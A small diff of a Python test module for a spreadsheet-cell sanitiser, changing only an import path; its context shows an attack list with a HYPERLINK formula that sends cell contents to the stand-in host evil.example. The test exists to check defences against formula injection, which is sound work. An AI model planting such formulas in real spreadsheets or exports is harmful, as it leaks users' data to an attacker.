@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from api.spreadsheet_cells import TRIGGERS, neutralised, restored
+from api.integration.spreadsheet_cells import TRIGGERS, neutralised, restored
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
